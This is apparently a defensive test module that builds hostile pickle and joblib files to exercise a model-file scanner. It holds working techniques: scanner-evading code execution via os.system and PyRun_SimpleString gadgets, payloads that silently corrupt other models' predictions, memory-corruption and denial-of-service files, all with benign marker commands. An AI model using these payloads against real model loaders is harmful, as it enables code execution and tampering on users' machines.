"""Hostile pickles of the second round (issue 12): names that are not what they spell,
allowed callables used as gadgets, streams the scanner could read differently from the
loader, and loads that change other models in the process.

Each builder returns the file's bytes. Payloads are harmless: they create a marker file, read
nothing, or crash/hang only the *naive* loader's own subprocess in the proof tests.
"""

from __future__ import annotations

import bz2
import pickle
import struct
import zlib
from pathlib import Path

from tests.hostile import P2, _b, _call, _g, _s, py_touch, touch_cmd

P4 = b"\x80\x04"


def stack_global(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + b"\x93"


def dotted_pyrun(m: Path) -> bytes:
    """The 157-byte joblib file: sklearn.base's ``np`` leads to CPython's PyRun_SimpleString."""
    fn = stack_global("sklearn.base", "np.ctypeslib.ctypes.pythonapi.PyRun_SimpleString")
    return P4 + fn + _b(py_touch(m).encode()) + b"\x85R."


def dotted_from_memo(m: Path) -> bytes:
    """The same path, its names fetched from the memo before STACK_GLOBAL."""
    return (
        P4
        + _s("sklearn.base")
        + b"\x94"
        + _s("np.ctypeslib.ctypes.pythonapi.PyRun_SimpleString")
        + b"\x94"
        + b"0"
        + b"h\x00h\x01\x93"
        + _b(py_touch(m).encode())
        + b"\x85R."
    )


def zlib_joblib(m: Path) -> bytes:
    """joblib's zlib container around the dotted payload (joblib.load inflates it)."""
    return zlib.compress(dotted_pyrun(m))


def object_array_joblib(m: Path) -> bytes:
    """A joblib object array whose inline pickle (joblib reads it with a second unpickler) is
    the dotted payload."""
    import io

    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.array(["PLACEHOLDER"], dtype=object), buf)
    data = buf.getvalue()
    start = data.find(b"\x80\x05", data.find(b"NumpyArrayWrapper"))
    end = data.index(b".", data.index(b"PLACEHOLDER", start)) + 1
    return data[:start] + dotted_pyrun(m) + data[end:]


def dotted_system(m: Path) -> bytes:
    """``sklearn.__check_build`` imports ``os``: an attribute path to ``os.system``."""
    return P4 + stack_global("sklearn.__check_build", "os.system") + _s(touch_cmd(m)) + b"\x85R."


def reexported_class(module: str, name: str) -> bytes:
    """A capitalised, dot-free name in an sklearn module that is not a scikit-learn class
    (re-exported ``Listener``, ``Thread``, ``Path``, a module constant)."""
    return P4 + stack_global(module, name) + b")R."


def build_on_mixin() -> bytes:
    """BUILD on an allowed-looking mixin class: every LogisticRegression in the process would
    then predict through numpy.negative."""
    return (
        P2
        + _g("sklearn.linear_model._base", "LinearClassifierMixin")
        + b"N}"
        + _s("predict")
        + _g("numpy", "negative")
        + b"s\x86b0N."
    )


def setitem_on_constant() -> bytes:
    """SETITEM on a module-level dict: every MLP's relu becomes numpy.negative."""
    return (
        P2
        + _g("sklearn.neural_network._base", "ACTIVATIONS")
        + _s("relu")
        + _g("numpy", "negative")
        + b"s0N."
    )


def build_on_function_defaults() -> bytes:
    """BUILD on a function: its defaults changed for every caller in the process."""
    return (
        P2
        + _g("sklearn.utils.validation", "check_array")
        + b"N}"
        + _s("__defaults__")
        + b")s\x86b0N."
    )


def dtype_build(code: str, state: bytes) -> bytes:
    """``numpy.dtype(code, False, True)`` followed by BUILD(state)."""
    return _g("numpy", "dtype") + b"(" + _s(code) + b"\x89\x88tR" + state + b"b"


def forged_object_array() -> bytes:
    """An object dtype whose flags say it holds no objects, then ``_frombuffer`` of raw bytes:
    the array's items are forged pointers (a segfault on first use, naive)."""
    state = b"(K\x03" + _s("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00t"  # flags 0
    dt = dtype_build("O8", state)
    return (
        P2
        + _g("numpy._core.numeric", "_frombuffer")
        + b"("
        + _b(b"\x41" * 8)
        + dt
        + b"K\x01\x85"
        + _s("C")
        + b"tR."
    )


def fraction_hang() -> bytes:
    return P2 + _g("fractions", "Fraction") + b"(" + _s("1e999999999") + b"tR."


def huge_bytes() -> bytes:
    return (
        P2 + _g("builtins", "bytes") + b"(\x8a\x05" + (3 << 30).to_bytes(5, "little") + b"tR."
    )  # 3 GiB


def multistream_bz2(claim: int = 48 << 30) -> bytes:
    """A joblib bz2 file of many small streams whose array claims 48 GiB of zeros: a reader
    that inflates to skip the array's bytes works through gigabytes from kilobytes."""
    import io

    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump(np.zeros(4, dtype=np.float64), buf)
    data = buf.getvalue()
    at = data.index(b"K\x04\x85")  # the shape (4,)
    head = data[:at] + b"\x8a\x05" + (claim // 8).to_bytes(5, "little") + b"\x85" + data[at + 3 :]
    head = head[: head.index(b"ub") + 2]  # up to the wrapper's BUILD; the array bytes follow
    zeros = bz2.compress(b"\x00" * (1 << 20), 9)
    return bz2.compress(head) + zeros * 40


def tree_with_bad_children(depth_attack: str = "oob") -> bytes:
    """A fitted DecisionTree whose root points past the node array ('oob') or back at itself
    ('cycle'): loads naively, then predict crashes or never returns."""
    import io

    import numpy as np
    from sklearn.tree import DecisionTreeClassifier

    X = np.array([[0.0], [1.0], [2.0], [3.0]])
    est = DecisionTreeClassifier(max_depth=1).fit(X, [0, 0, 1, 1])
    nodes = est.tree_.__getstate__()["nodes"]
    bad = nodes.copy()
    bad["left_child"][0] = 10_000_000 if depth_attack == "oob" else 0
    buf = io.BytesIO()
    pickle.Pickler(buf, protocol=4).dump(est)
    data = buf.getvalue()
    assert nodes.tobytes() in data
    return data.replace(nodes.tobytes(), bad.tobytes())


def tree_deeper_than_it_says() -> bytes:
    """A fitted DecisionTree 12 levels deep whose state says ``max_depth`` 0 (red team):
    every node is in order, predict works, and ``decision_path`` (which sizes its buffer
    from ``max_depth``) writes past the heap buffer."""
    import io

    import numpy as np
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.tree._tree import Tree

    rng = np.random.RandomState(0)
    X, y = rng.rand(5000, 4), rng.randint(0, 2, 5000)
    est = DecisionTreeClassifier(max_depth=12, random_state=0).fit(X, y)
    state = est.tree_.__getstate__()
    state["max_depth"] = 0
    tree = Tree(est.tree_.n_features, np.array(est.tree_.n_classes, dtype=np.intp), 1)
    tree.__setstate__(state)
    est.tree_ = tree
    buf = io.BytesIO()
    pickle.Pickler(buf, protocol=4).dump(est)
    return buf.getvalue()


def sparse_coef_out_of_range() -> bytes:
    """A LogisticRegression whose sparse coef_ has indices past its shape."""
    import numpy as np
    import scipy.sparse as sp
    from sklearn.linear_model import LogisticRegression

    X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    est = LogisticRegression().fit(X, [0, 1, 1, 0])
    coef = sp.csr_matrix(est.coef_)
    est.coef_ = coef
    data = pickle.dumps(est, protocol=4)
    good = coef.indices.tobytes()
    bad = np.array([1 << 30] * len(coef.indices), dtype=coef.indices.dtype).tobytes()
    assert good in data
    return data.replace(good, bad)


def randomstate_position(pos: int = 100_000) -> bytes:
    """A RandomState whose Mersenne Twister position is past its 624-word key."""
    import numpy as np

    data = pickle.dumps(np.random.RandomState(0), protocol=2)
    at = data.index(b"Mp\x02", data.index(b"pos"))  # BININT2 624, the value of 'pos'
    return data[:at] + b"J" + struct.pack("<i", pos) + data[at + 3 :]


def frame_overrun(m: Path, k: int = 64) -> bytes:
    """gh-154848: a BINBYTES whose length runs past its FRAME. CPython's C unpickler (before
    3.13.15/3.14.7) drops the frame's unread bytes and takes the argument from after the
    frame, so it runs ``os.system``; a linear opcode walker (pickletools) reads the same
    bytes as two harmless BINBYTES."""
    hidden = _g("os", "system") + b"(" + _s(touch_cmd(m)) + b"tR0"
    frame = b"B" + struct.pack("<I", k) + b"f" * 5
    after = b"x" * (k - 5) + b"B" + struct.pack("<I", len(hidden))
    return P4 + b"\x95" + struct.pack("<Q", len(frame)) + frame + after + hidden + b"."


def second_pickle_after_stop(m: Path) -> bytes:
    return (
        pickle.dumps({"w": [1.0]}, protocol=4)
        + P2
        + _call(_g("os", "system"), _s(touch_cmd(m)))
        + b"."
    )


def colliding_keys(n: int = 60_000) -> bytes:
    """A dict whose int keys all share one hash (multiples of 2**61 - 1 plus one): quadratic."""
    p = (1 << 61) - 1
    out = bytearray(P2 + b"}(")
    for i in range(n):
        k = 1 + i * p
        raw = k.to_bytes((k.bit_length() + 8) // 8, "little", signed=True)
        out += b"\x8a" + bytes([len(raw)]) + raw + b"N"
    return bytes(out + b"u.")


def planted_module_global(module: str, name: str) -> bytes:
    return P2 + _g(module, name) + b")R."
